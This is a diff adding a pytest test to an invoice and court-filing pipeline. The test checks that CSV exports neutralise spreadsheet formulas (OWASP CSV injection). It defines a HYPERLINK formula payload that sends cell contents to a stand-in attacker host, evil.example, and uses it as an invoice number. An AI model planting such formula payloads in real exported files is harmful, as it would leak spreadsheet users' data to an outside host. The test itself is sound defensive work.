@@ -19,6 +19,7 @@ from tests.test_agency import approve_pending
 from tests.test_pipeline import as_json, day, run
 
 pytestmark = pytest.mark.usefixtures("prefect_server")
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 LADDER = [
     {"name": "friendly_reminder", "channel": "email", "days_after_due": 3,
@@ -114,6 +115,22 @@ def test_an_approved_injunction_becomes_a_court_file(portfolio: Portfolio, court
     assert [(a["status"], a["document"]) for a in as_json("actions")
             if a["kind"] == "injunction"] == [("sent", str(archive))]
     assert run(day(6))["injunctions"]["sent"] == 0, "one court file per approval"
+
+
+@pytest.mark.sqlite_only
+def test_the_invoice_list_shows_a_formula_as_text(portfolio: Portfolio, court_dir: Path) -> None:
+    """A lawyer opens 2-factures.csv in a spreadsheet: an invoice number written as a formula
+    must not run there (OWASP, CSV injection)."""
+    seed(portfolio)
+    portfolio.invoices["I1"]["number"] = HYPERLINK
+    portfolio.invoices["I2"]["number"] = "-2+3"
+    portfolio.write()
+    up_to_the_court(portfolio)
+    (archive,) = run(day(6))["injunctions"]["files"]
+    with (Path(archive).with_suffix("") / "2-factures.csv").open(encoding="utf-8") as handle:
+        rows = list(csv.reader(handle, delimiter=";"))
+    assert [r[0] for r in rows[1:]] == ["'" + HYPERLINK, "'-2+3", "TOTAL"]
+    assert rows[1][3] == "46", "numbers stay numbers"
 
 
 @pytest.mark.sqlite_only
